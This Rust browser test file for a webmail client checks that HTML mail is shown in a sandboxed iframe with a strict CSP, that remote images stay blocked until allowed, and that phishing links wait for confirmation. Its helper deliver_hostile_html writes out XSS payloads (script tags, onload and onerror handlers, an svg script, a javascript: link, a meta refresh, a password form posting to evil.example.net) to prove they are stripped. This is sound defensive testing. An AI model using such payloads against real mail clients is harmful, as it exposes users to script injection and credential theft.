//! HTML mail shown safely, against the real server: the seeded newsletters and phishing
//! mail, and HTML mail delivered through the MTA with an inline `cid:` image and hostile
//! content. The frame is checked from the page (its document is readable: `srcdoc` with
//! `allow-same-origin`, see crates/mail-html/src/frame.rs). Parsing such mail makes Chromium
//! report the CSP refusals of the parsed (inert) document: each test announces exactly those
//! (`flows::PARSED_MAIL_INLINE_STYLE`).

use facteur_browser_tests::flows::{sign_in_per_message, PARSED_MAIL_INLINE_HANDLER, PARSED_MAIL_INLINE_STYLE};
use facteur_browser_tests::{axe, browser_tests, ensure, rows, seed, Browser, Ctx, Result, WAIT};
use facteur_testbed::Account;
use std::rc::Rc;
use std::time::Duration;

const CLAIRE: &str = "claire.martin@ac-cevennes.fr";
const JULIEN: &str = "julien.roux@ac-cevennes.fr";
/// The open message's frame.
const FRAME: &str = "[data-testid=conversation] .message-open iframe.message-frame";
/// A 24×24 blue PNG.
const PNG_BASE64: &str = "iVBORw0KGgoAAAANSUhEUgAAABgAAAAYCAIAAABvFaqvAAAAHklEQVR42mNgCF1CHTRq0KhBowaNGjRq0KhBA28QACEcMF/J+YtLAAAAAElFTkSuQmCC";

/// JavaScript: the open message's frame document.
fn frame_doc() -> String {
    format!("document.querySelector({FRAME:?}).contentDocument")
}

/// Waits until the open message's frame holds its sanitised body (non-empty body).
fn wait_frame_filled(b: &Browser) -> Result {
    b.wait_until(
        &format!("(() => {{ const d = {}; return !!d && !!d.body && d.body.childElementCount > 0; }})()", frame_doc()),
        "the message frame filled",
        WAIT,
    )
}

/// The sandbox and CSP of the open message's frame: never scripts, no remote images unless allowed.
fn check_frame_policy(b: &Browser, remote_allowed: bool) -> Result {
    let sandbox = b.attr(FRAME, "sandbox")?.ok_or("the message frame has no sandbox attribute")?;
    ensure!(!sandbox.contains("allow-scripts"), "the frame allows scripts: {sandbox:?}");
    ensure!(
        !sandbox.contains("allow-forms") && !sandbox.contains("allow-top-navigation"),
        "sandbox too wide: {sandbox:?}"
    );
    let csp =
        b.eval(&format!("{}.querySelector('meta[http-equiv=Content-Security-Policy]')?.content ?? ''", frame_doc()))?;
    let csp = csp.as_str().unwrap_or_default().to_string();
    ensure!(csp.contains("default-src 'none'"), "the frame's CSP lacks default-src 'none': {csp:?}");
    ensure!(
        !csp.contains("script-src") || csp.contains("script-src 'none'"),
        "the frame's CSP allows scripts: {csp:?}"
    );
    ensure!(
        csp.contains("https:") == remote_allowed,
        "remote images in the frame's CSP should be {remote_allowed}: {csp:?}"
    );
    Ok(())
}

/// Reloads the page and signs in again from the login form shown at the same address (the
/// password is never stored), which brings back the same view.
fn sign_in_again_here(b: &Browser, email: &str, password: &str) -> Result {
    b.refresh()?;
    b.wait_visible("#username", WAIT)?;
    b.fill("#username", email)?;
    b.fill("#password", password)?;
    b.click("button[type=submit]")
}

/// The `src` of the images in the open message's frame.
fn frame_image_sources(b: &Browser) -> Result<Vec<String>> {
    let v = b.eval(&format!("[...{}.querySelectorAll('img')].map(i => i.getAttribute('src') ?? '')", frame_doc()))?;
    Ok(v.as_array().map(|a| a.iter().filter_map(|s| s.as_str().map(str::to_string)).collect()).unwrap_or_default())
}

/// Signs Claire in (one row per message) and opens the newest mail of her seeded Inbox that
/// `pick` chooses (`what` names it in errors); waits for its frame to be filled.
fn open_claire_mail(
    ctx: &Ctx,
    lang: &str,
    what: &str,
    pick: impl Fn(&seed::SeedMail) -> bool,
) -> Result<(Rc<Browser>, seed::SeedMail, Account)> {
    let claire = ctx.app()?.account(CLAIRE)?.clone();
    let mail = seed::folder(&claire.email, "Inbox")?
        .into_iter()
        .find(|m| pick(m))
        .ok_or(format!("no {what} in the seed's Inbox"))?;
    let b = ctx.browser_lang(lang)?;
    sign_in_per_message(&b, &claire.email, &claire.password)?;
    rows::open(&b, &mail.subject)?;
    b.wait_for(FRAME, WAIT)?;
    wait_frame_filled(&b)?;
    Ok((b, mail, claire))
}

/// A seeded newsletter: its remote images are blocked with a banner; "Afficher les images"
/// shows them for this message; "Toujours pour …" remembers the sender.
fn newsletter_remote_images_are_blocked_until_allowed(ctx: &Ctx) -> Result {
    // The newest HTML newsletter with remote images (not the phishing mail, see below); the
    // newest ones are in the first rows of the list.
    let (b, letter, claire) = open_claire_mail(ctx, "fr-FR", "newsletter with remote images", |m| {
        m.html.as_deref().is_some_and(|h| h.contains("<img src=\"http") && !h.contains("verify.php"))
    })?;
    b.expect_console_error(PARSED_MAIL_INLINE_STYLE);
    // Once allowed, its remote images are asked for: this machine has no network.
    b.expect_console_error("https://lettre.ac-cevennes.fr/* - Failed to load resource: net::ERR_NAME_NOT_RESOLVED");
    check_frame_policy(&b, false)?;
    let sources = frame_image_sources(&b)?;
    ensure!(!sources.iter().any(|s| s.starts_with("http")), "remote images kept while blocked: {sources:?}");
    // The text of the newsletter is there, styled in the frame.
    let text = b.eval(&format!("{}.body.textContent", frame_doc()))?;
    ensure!(text.as_str().is_some_and(|t| t.trim().len() > 200), "the newsletter's text is missing from the frame");
    // No request left for a remote host (the page and the frame share the page's timeline).
    let remote = b.eval(&format!(
        "[...performance.getEntriesByType('resource'), ...{}.defaultView.performance.getEntriesByType('resource')].map(e => e.name).filter(n => !n.startsWith(location.origin) && !n.startsWith('blob:') && !n.startsWith('data:'))",
        frame_doc()
    ))?;
    ensure!(remote.as_array().is_some_and(|a| a.is_empty()), "requests left for other hosts: {remote}");
    b.wait_visible(".remote-banner", WAIT)?;
    ensure!(b.text(".remote-banner")?.contains("images"), "banner text: {:?}", b.text(".remote-banner")?);
    axe::assert_accessible(&b, "a newsletter with blocked images (desktop, fr)")?;
    b.screenshots_desktop_phone("html-newsletter-blocked-fr", |b| {
        b.wait_for(FRAME, WAIT)?;
        wait_frame_filled(b)?;
        b.eval("document.querySelector('.remote-banner').scrollIntoView({ block: 'start' })").map(|_| ())
    })?;

    // This message only.
    b.click(".remote-banner button.button:not(.secondary)")?;
    b.wait_gone(".remote-banner", WAIT)?;
    b.wait_until(
        &format!(
            "[...{}.querySelectorAll('img')].some(i => (i.getAttribute('src') ?? '').startsWith('http'))",
            frame_doc()
        ),
        "remote images back in the frame",
        WAIT,
    )?;
    check_frame_policy(&b, true)?;
    let stored = b.local_storage_dump()?;
    ensure!(
        !stored.iter().any(|(k, v)| k.contains("remote") && v.contains(&letter.from)),
        "'this message' must not remember the sender: {stored:?}"
    );

    // Always for this sender: kept in this browser, the banner does not come back.
    sign_in_again_here(&b, &claire.email, &claire.password)?;
    b.wait_for(FRAME, WAIT)?;
    wait_frame_filled(&b)?;
    b.wait_visible(".remote-banner", WAIT)?;
    b.click(".remote-banner button.secondary")?;
    b.wait_gone(".remote-banner", WAIT)?;
    let stored = b.local_storage_dump()?;
    ensure!(stored.iter().any(|(_, v)| v.contains(&letter.from)), "the sender is not remembered: {stored:?}");
    sign_in_again_here(&b, &claire.email, &claire.password)?;
    b.wait_for(FRAME, WAIT)?;
    wait_frame_filled(&b)?;
    check_frame_policy(&b, true)?;
    ensure!(!b.exists(".remote-banner")?, "the banner is back for a sender always allowed");
    Ok(())
}

/// The seeded phishing mail: a banner names both hosts, a click on the link asks first and
/// opens nothing unless the user insists (then in a new tab, without opener).
fn deceptive_link_is_held_for_confirmation(ctx: &Ctx) -> Result {
    let (b, _, _) =
        open_claire_mail(ctx, "en-US", "phishing mail", |m| m.from.ends_with("@ac-cevennes-support.example.net"))?;
    b.expect_console_error(PARSED_MAIL_INLINE_STYLE);
    b.wait_visible(".phishing-banner", WAIT)?;
    let banner = b.text(".phishing-banner")?;
    ensure!(
        banner.contains("messagerie.ac-cevennes.fr") && banner.contains("ac-cevennes-support.example.net"),
        "the banner should name the shown and the real host: {banner:?}"
    );
    // Record what would open instead of opening it.
    b.execute(
        "window.__opened = []; window.open = (u, t, f) => { window.__opened.push([u, t, f]); return null; };",
        vec![],
    )?;
    let click = format!("{}.querySelector('a[href*=\"ac-cevennes-support.example.net\"]').click()", frame_doc());
    b.eval(&click)?;
    b.wait_until(
        "document.querySelector('[data-testid=deceptive-dialog]')?.open === true",
        "the warning dialog open",
        WAIT,
    )?;
    ensure!(
        b.text("[data-testid=deceptive-dialog]")?.contains("ac-cevennes-support.example.net"),
        "dialog text: {:?}",
        b.text("[data-testid=deceptive-dialog]")?
    );
    let frames = b.eval("window.frames.length")?;
    ensure!(frames.as_u64() == Some(1), "the click navigated or opened something: {frames}");
    axe::assert_accessible(&b, "the deceptive link warning (desktop, en)")?;
    b.screenshots_desktop_phone("html-deceptive-link-en", |_| Ok(()))?;
    // Back to safety (the safe choice has the focus).
    ensure!(b.focused()?.contains("primary"), "the safe button should have the focus: {}", b.focused()?);
    b.click("[data-testid=deceptive-dialog] .button.primary")?;
    b.wait_until("!document.querySelector('[data-testid=deceptive-dialog]').open", "dialog closed", WAIT)?;
    ensure!(b.eval("window.__opened.length")?.as_u64() == Some(0), "the link was opened after cancel");
    // The user insists: a new tab without opener.
    b.eval(&click)?;
    b.wait_until(
        "document.querySelector('[data-testid=deceptive-dialog]')?.open === true",
        "the warning dialog open again",
        WAIT,
    )?;
    b.click("[data-testid=deceptive-dialog] .button.secondary")?;
    b.wait_until("window.__opened.length === 1", "the link opened once", WAIT)?;
    let opened = b.eval("window.__opened[0]")?;
    ensure!(
        opened[0].as_str().is_some_and(|u| u.contains("ac-cevennes-support.example.net"))
            && opened[1] == "_blank"
            && opened[2].as_str().is_some_and(|f| f.contains("noopener") && f.contains("noreferrer")),
        "opened as {opened}"
    );
    // Every link of the frame opens in a new tab without opener.
    let links = b.eval(&format!("[...{}.querySelectorAll('a[href^=http]')].every(a => a.target === '_blank' && a.rel.includes('noopener') && a.rel.includes('noreferrer'))", frame_doc()))?;
    ensure!(links.as_bool() == Some(true), "a link lacks target=_blank rel=noopener noreferrer");
    Ok(())
}

/// Delivers to Julien an HTML mail with an inline image and hostile content; returns its subject.
fn deliver_hostile_html(ctx: &Ctx, what: &str) -> Result<String> {
    let stamp = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_millis()).unwrap_or(0);
    let subject = format!("Affiche {what} {stamp}");
    let raw = format!(
        "From: Karim Benali <karim.benali@ac-cevennes.fr>\r\nTo: {JULIEN}\r\nSubject: {subject}\r\n\
         Message-ID: <html-{stamp}@ac-cevennes.fr>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n\
         --alt\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         Bonjour Julien,\r\nvoici l'affiche du forum des métiers (en pièce jointe).\r\nBien à vous,\r\nKarim\r\n\
         --alt\r\nContent-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
         --rel\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         <html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example.net/\">\
         <script>parent.__pwned = 'head';</script><style>p {{ color: #14532d; }}</style></head>\r\n\
         <body onload=\"parent.__pwned = 'onload'\"><p>Bonjour Julien,</p>\r\n\
         <p>voici l'affiche du forum des métiers :</p><p><img src=\"cid:affiche@ac-cevennes.fr\" alt=\"Affiche du forum\" width=\"24\" height=\"24\"></p>\r\n\
         <img src=\"x\" onerror=\"parent.__pwned = 'onerror'\">\
         <svg><script>parent.__pwned = 'svg'</script></svg>\r\n\
         <a href=\"javascript:parent.__pwned='link'\">lien</a>\r\n\
         <form action=\"https://evil.example.net/\"><input name=\"mdp\"></form>\r\n\
         <p>Bien à vous,<br>Karim</p></body></html>\r\n\
         --rel\r\nContent-Type: image/png\r\nContent-ID: <affiche@ac-cevennes.fr>\r\nContent-Disposition: inline; filename=\"affiche.png\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{PNG_BASE64}\r\n--rel--\r\n--alt--\r\n"
    );
    ctx.with_testbed(|tb| tb.deliver(raw.as_bytes(), "karim.benali@ac-cevennes.fr", &[JULIEN]))?
        .map_err(|e| format!("delivery failed: {e}"))?;
    Ok(subject)
}

/// Signs Julien in and opens the delivered mail when it shows up in the list (`before_open`
/// runs just before the click).
fn open_delivered(
    ctx: &Ctx,
    subject: &str,
    lang: &str,
    before_open: impl Fn(&Browser) -> Result,
) -> Result<Rc<Browser>> {
    let julien = ctx.app()?.account(JULIEN)?.clone();
    let b = ctx.browser_lang(lang)?;
    sign_in_per_message(&b, &julien.email, &julien.password)?;
    rows::wait_for_subject(&b, subject, "the delivered mail in the list", Duration::from_secs(60))?;
    before_open(&b)?;
    rows::open(&b, subject)?;
    Ok(b)
}

/// An inline `cid:` image is fetched with the user's credentials and shown as a `blob:` URL
/// (not listed as a file); nothing hostile of the same mail survives or runs.
fn inline_image_shown_and_nothing_runs(ctx: &Ctx) -> Result {
    let subject = deliver_hostile_html(ctx, "inline")?;
    let b = open_delivered(ctx, &subject, "fr-FR", |_| Ok(()))?;
    b.expect_console_error(PARSED_MAIL_INLINE_STYLE);
    b.expect_console_error(PARSED_MAIL_INLINE_HANDLER);
    b.wait_for(FRAME, WAIT)?;
    wait_frame_filled(&b)?;
    b.wait_until(
        &format!("[...{}.querySelectorAll('img')].some(i => i.src.startsWith('blob:') && i.complete && i.naturalWidth === 24)", frame_doc()),
        "the inline image loaded from a blob: URL",
        WAIT,
    )?;
    ensure!(
        !b.exists("[data-testid=conversation] .message-open [data-testid=attachment]")?,
        "the inline image is listed as a file"
    );
    let doc = frame_doc();
    let left = b.eval(&format!(
        "(() => {{ const d = {doc}; return {{ scripts: d.querySelectorAll('script, svg, form, input, meta[http-equiv=refresh]').length,
            handlers: [...d.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
            js: [...d.querySelectorAll('[href]')].filter(e => /^\\s*javascript:/i.test(e.getAttribute('href'))).length,
            text: d.body.textContent }}; }})()"
    ))?;
    ensure!(left["scripts"] == 0 && left["handlers"] == 0 && left["js"] == 0, "hostile content kept: {left}");
    ensure!(left["text"].as_str().is_some_and(|t| t.contains("forum des métiers")), "the text is missing: {left}");
    // The frame's document has loaded and every image in it is done (loaded or broken: an
    // `onerror` would have run in the same task): had anything of the mail been able to run,
    // it would have by now.
    b.wait_until(
        &format!("(d => d.readyState === 'complete' && [...d.images].every(i => i.complete))({doc})"),
        "the message frame and its images loaded",
        WAIT,
    )?;
    ensure!(
        b.eval("window.__pwned === undefined")?.as_bool() == Some(true),
        "a script of the mail ran: {}",
        b.eval("String(window.__pwned)")?
    );
    ensure!(b.current_url()?.starts_with(&b.url("")), "the page navigated away: {}", b.current_url()?);
    axe::assert_accessible(&b, "an HTML mail with an inline image (desktop, fr)")?;
    b.screenshots_desktop_phone("html-inline-image-fr", |b| {
        wait_frame_filled(b)?;
        b.eval(&format!("document.querySelector({FRAME:?}).scrollIntoView({{ block: 'center' }})")).map(|_| ())
    })?;
    Ok(())
}

/// When the HTML cannot be rendered (here: the browser's parser is unavailable), the
/// message's text is shown with a notice instead of a blank body.
fn unrenderable_html_shows_the_text(ctx: &Ctx) -> Result {
    let subject = deliver_hostile_html(ctx, "secours")?;
    let b = open_delivered(ctx, &subject, "en-US", |b| {
        b.execute("window.DOMParser = function () { throw new Error('no parser'); };", vec![]).map(|_| ())
    })?;
    b.wait_text("[data-testid=conversation] .message-open", "forum des métiers", WAIT)?;
    ensure!(!b.exists(FRAME)?, "the frame is still shown after a failure");
    let body = b.text("[data-testid=conversation] .message-open")?;
    ensure!(body.contains("could not be shown"), "no notice: {body:?}");
    ensure!(b.eval("window.__pwned === undefined")?.as_bool() == Some(true), "a script of the mail ran");
    axe::assert_accessible(&b, "an HTML mail shown as text (desktop, en)")?;
    Ok(())
}

/// Opened from search results, an HTML mail has the searched word marked inside its frame
/// (made through the DOM: a `<mark>` element, not markup).
fn searched_word_marked_in_an_html_mail(ctx: &Ctx) -> Result {
    let claire = ctx.app()?.account(CLAIRE)?.clone();
    let letter = seed::folder(&claire.email, "Inbox")?
        .into_iter()
        .find(|m| m.html.as_deref().is_some_and(|h| h.contains("Harcèlement") || h.contains("Harc=C3=A8lement")))
        .ok_or("no seeded newsletter about harcèlement")?;
    let b = ctx.browser_lang("fr-FR")?;
    b.expect_console_error(PARSED_MAIL_INLINE_STYLE);
    sign_in_per_message(&b, &claire.email, &claire.password)?;
    b.fill("#search-input", "harcèlement")?;
    b.send_keys("#search-input", &facteur_browser_tests::Key::Enter.to_string())?;
    rows::wait_for_subject(&b, &letter.subject, "the newsletter among the results", WAIT)?;
    rows::open(&b, &letter.subject)?;
    b.wait_for(FRAME, WAIT)?;
    wait_frame_filled(&b)?;
    b.wait_until(
        &format!(
            "[...{}.querySelectorAll('mark')].some(m => m.textContent.toLowerCase() === 'harcèlement')",
            frame_doc()
        ),
        "the searched word marked in the frame",
        WAIT,
    )?;
    axe::assert_accessible(&b, "an HTML mail opened from search results (desktop, fr)")?;
    Ok(())
}

browser_tests!(
    searched_word_marked_in_an_html_mail,
    newsletter_remote_images_are_blocked_until_allowed,
    deceptive_link_is_held_for_confirmation,
    inline_image_shown_and_nothing_runs,
    unrenderable_html_shows_the_text,
);
